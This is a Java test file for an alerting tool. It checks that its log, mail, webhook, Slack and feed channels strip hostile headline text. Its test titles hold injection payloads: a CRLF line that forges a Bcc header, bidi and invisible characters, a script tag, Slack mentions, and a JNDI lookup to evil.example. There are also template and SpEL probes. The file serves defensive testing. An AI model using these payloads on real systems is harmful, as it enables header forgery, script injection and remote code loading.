package io.watchfloor.alerts.channel;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.databind.JsonNode;
import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetup;
import com.rometools.rome.feed.synd.SyndEntry;
import com.rometools.rome.io.SyndFeedInput;
import com.rometools.rome.io.XmlReader;
import io.watchfloor.alerts.SampleEvents;
import io.watchfloor.alerts.channel.http.HttpReceiver;
import io.watchfloor.alerts.message.Message;
import io.watchfloor.alerts.message.Template;
import io.watchfloor.alerts.message.Wording;
import io.watchfloor.model.Json;
import jakarta.mail.internet.MimeMessage;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.slf4j.LoggerFactory;

/** Headlines of strangers through every channel, as it is on the wire: no header, line, tag or call of theirs gets through. */
class HostileHeadlinesTest {
    private static final String FORGED = "Bcc: everybody@desk.example";

    static List<String> titles() {
        return List.of(
                "Balloon\r\n" + FORGED + "\r\n\r\nFLASH forged body",
                "Balloon\u2028" + FORGED + "\u2029\u0085" + FORGED,
                "\u202Enoollab\u202C \u2066hidden\u2069 \u200F\u061C\uFEFF",
                "<script>alert(1)</script> <!channel> <@U1> @here &lt; ]]> </entry><entry>",
                "Balloon \uD83C\uDF88\uD83D\uDE00 family \uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 half \uD83C end",
                "{why} {{constructor}} ${jndi:ldap://evil.example/a} #{7*7} <%= 7*7 %>",
                "\u0000\u0007\u001B[31mred\u001B[0m\u007F",
                "x".repeat(100_000),
                "\uD83C\uDF88".repeat(50_000));
    }

    @TempDir
    private Path folder;

    @ParameterizedTest(name = "title {index}")
    @MethodSource("titles")
    void theLogIsOneShortLine(String title) throws Exception {
        Logger logger = (Logger) LoggerFactory.getLogger("notification");
        ListAppender<ILoggingEvent> seen = new ListAppender<>();
        seen.start();
        logger.addAppender(seen);
        try (Channel log = TestWires.open("log", "{}", Map.of())) {
            log.send(message(title));
        } finally {
            logger.detachAppender(seen);
        }
        assertClean(seen.list.get(0).getFormattedMessage());
    }

    @ParameterizedTest(name = "title {index}")
    @MethodSource("titles")
    void aMailHasNoHeaderOfTheirs(String title) throws Exception {
        GreenMail server = new GreenMail(new ServerSetup(0, "127.0.0.1", ServerSetup.PROTOCOL_SMTP));
        server.start();
        String yaml = "{to: [watch@desk.example], from: w@desk.example, tls: none, smarthost: \"127.0.0.1:"
                + server.getSmtp().getPort() + "\"}";
        try (Channel email = TestWires.open("email", yaml, Map.of())) {
            assertThat(email.send(message(title))).isInstanceOf(Outcome.Delivered.class);
            MimeMessage mail = server.getReceivedMessages()[0];
            assertThat(Collections.list(mail.getAllHeaders()))
                    .extracting(header -> header.getName())
                    .doesNotContain("Bcc")
                    .doesNotHaveDuplicates();
            assertClean(mail.getSubject());
            assertThat(mail.getSubject()).hasSizeLessThan(700);
            mail.getContent().toString().lines().forEach(HostileHeadlinesTest::assertClean);
            assertThat(mail.getContent().toString().lines().filter(line -> line.startsWith("Bcc")))
                    .isEmpty();
        } finally {
            server.stop();
        }
    }

    @ParameterizedTest(name = "title {index}")
    @MethodSource("titles")
    void whatIsPostedIsWholeJsonAndShort(String title) throws Exception {
        String secret = "whsec_" + Base64.getEncoder().encodeToString(new byte[32]);
        try (HttpReceiver receiver = new HttpReceiver((exchange, request) -> 204);
                Channel webhook = TestWires.open(
                        "webhook", "{url: \"" + receiver.url() + "\", secret_env: S}", Map.of("S", secret));
                Channel slack = TestWires.open(
                        "slack", "{url_env: U}", Map.of("U", receiver.url().toString()));
                Channel am = TestWires.open("alertmanager", "{url: \"" + receiver.url() + "\"}", Map.of())) {
            for (Channel channel : List.of(webhook, slack, am)) {
                assertThat(channel.send(message(title))).isInstanceOf(Outcome.Delivered.class);
            }
            assertThat(receiver.requests()).hasSize(3).allSatisfy(request -> {
                assertThat(request.headers().keySet()).doesNotContain("Bcc");
                assertThat(request.body()).hasSizeLessThan(12_000);
                JsonNode body = Json.read(request.body(), JsonNode.class);
                body.findValuesAsText("title").forEach(HostileHeadlinesTest::assertClean);
                body.findValuesAsText("text").stream()
                        .flatMap(String::lines)
                        .forEach(HostileHeadlinesTest::assertClean);
            });
            assertThat(receiver.requests().get(1).body()).doesNotContain("<!channel>", "<@U1>", "@here");
        }
    }

    @ParameterizedTest(name = "title {index}")
    @MethodSource("titles")
    void theFeedStaysOneEntryOfText(String title) throws Exception {
        Path file = folder.resolve("watch.xml");
        try (Channel atom = TestWires.open("atom", "{file: \"" + file + "\"}", Map.of())) {
            assertThat(atom.send(message(title))).isInstanceOf(Outcome.Delivered.class);
        }
        List<SyndEntry> entries =
                new SyndFeedInput().build(new XmlReader(file.toFile())).getEntries();
        assertThat(entries).hasSize(1);
        assertClean(entries.get(0).getTitle());
        assertThat(entries.get(0).getContents().get(0).getType()).isEqualTo("text");
    }

    /** A title may hold what looks like a template: it is filled in and never read as one. */
    @ParameterizedTest(name = "title {index}")
    @MethodSource("titles")
    void aTemplateReadsNothingOutOfATitle(String title) {
        Wording wording = new Wording(Template.parse("{PRECEDENCE} {title}", (offset, error) -> {}), null);
        Message message = wording.message(SampleEvents.notification("desk", SampleEvents.titled(title, "why not")));
        assertClean(message.summary());
        assertThat(message.summary()).startsWith("FLASH ").doesNotContain("why not");
    }

    @Test
    void aTemplateKnowsFieldsAndNothingElse() {
        List<String> errors = new ArrayList<>();
        Template.parse("{why} {T(java.lang.Runtime)} {whi} {", (offset, error) -> errors.add(offset + " " + error));
        assertThat(errors).hasSize(3);
        assertThat(errors.get(0))
                .startsWith("6 template: unknown field 'T(java.lang.Runtime)'; there are PRECEDENCE, at");
        assertThat(errors.get(2)).startsWith("35 template: a brace without its other");
    }

    private static Message message(String title) {
        return Message.of(SampleEvents.notification("desk", SampleEvents.titled(title, title)));
    }

    /** One line, whole characters, nothing that turns the text round or cannot be seen. */
    private static void assertClean(String text) {
        assertThat(text).hasSizeLessThan(2000);
        assertThat(text.codePoints().allMatch(c -> switch (Character.getType(c)) {
                    case Character.CONTROL,
                            Character.SURROGATE,
                            Character.PRIVATE_USE,
                            Character.LINE_SEPARATOR,
                            Character.PARAGRAPH_SEPARATOR -> false;
                    case Character.FORMAT -> c == 0x200B;
                    default -> true;
                }))
                .as(text)
                .isTrue();
    }
}
